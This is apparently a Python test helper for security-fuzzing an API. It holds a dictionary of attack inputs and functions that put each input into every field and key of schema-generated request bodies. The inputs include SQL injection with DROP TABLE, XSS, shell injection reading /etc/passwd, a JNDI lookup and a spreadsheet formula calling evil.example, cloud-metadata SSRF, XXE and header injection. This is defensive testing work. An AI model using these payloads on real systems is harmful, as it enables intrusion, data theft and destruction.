"""What attackers type: one text of each kind, and bodies made from a schema to put it in."""

from collections.abc import Iterator
from copy import deepcopy
from typing import Any

PAYLOADS = {
    "SQL, a quote": "' OR '1'='1' -- ",
    "SQL, stacked": "x'); DROP TABLE books; -- ",
    "SQL, union": "' UNION SELECT password_hash FROM users -- ",
    "SQL, a backslash": "\\' OR 1=1 #",
    "SQL, sleep": "1' AND SLEEP(5) AND '1'='1",
    "piccolo's placeholder": '{} {0} {x} ? %s %(x)s :x $1 `x` "x"',
    "LIKE": "%_!%",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an attribute": '" onmouseover="alert(1)" x=\'',
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "a format string": "%s%s%s%n%x {0.__class__.__init__.__globals__} {self}",
    "a JNDI lookup": "${jndi:ldap://evil.example/x}",
    "a shell": "; cat /etc/passwd | $(id) `id` && true",
    "a path": "../../../../etc/passwd",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "another address": "gopher://127.0.0.1:3306/_x",
    "a file": "file:///etc/passwd",
    "a line break": "x\r\nSet-Cookie: session=evil\r\n\r\n<html>",
    "a log line": "x\n00:00:00 INFO    auth admin logged in",
    "a terminal": "x\x1b[2J\x1b]0;evil\x07\x9b31m",
    "NUL": "x\x00y",
    "right to left": "\u202egnp.exe\u2066",
    "a formula": '=HYPERLINK("http://evil.example")',
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a prototype": "__proto__",
    "emoji beyond the plane": "\U0001f4a9" * 20,
    "not a character": "\ufffe\uffff",
    "long": "A" * 60_000,
}


def example(schema: dict[str, Any], schemas: dict[str, Any]) -> Any:
    """A small value that fits a schema of the documents."""
    if "$ref" in schema:
        return example(schemas[schema["$ref"].rpartition("/")[2]], schemas)
    if "oneOf" in schema:
        return example(schema["oneOf"][0], schemas)
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    if isinstance(kind, list):
        kind = kind[0]
    if kind == "object":
        return {
            name: example(member, schemas)
            for name, member in schema.get("properties", {}).items()
            if "not" not in member or member["not"]
        }
    if kind == "array":
        return [example(schema["items"], schemas)]
    return {"string": "ana@example.org", "integer": 1, "number": 1, "boolean": True}.get(str(kind))


def with_text(body: Any, text: str) -> Iterator[tuple[str, Any]]:
    """The body, once for each text in it, and once for each name, with the text in its place."""
    for path in _texts(body):
        changed = deepcopy(body)
        place = changed
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = text
        yield ".".join(map(str, path)), changed
    yield "a name", {**body, text: text}


def _texts(part: Any) -> Iterator[list[Any]]:
    steps = part.items() if isinstance(part, dict) else enumerate(part)
    for step, value in steps:
        if isinstance(value, str):
            yield [step]
        elif isinstance(value, dict | list):
            yield from ([step, *rest] for rest in _texts(value))
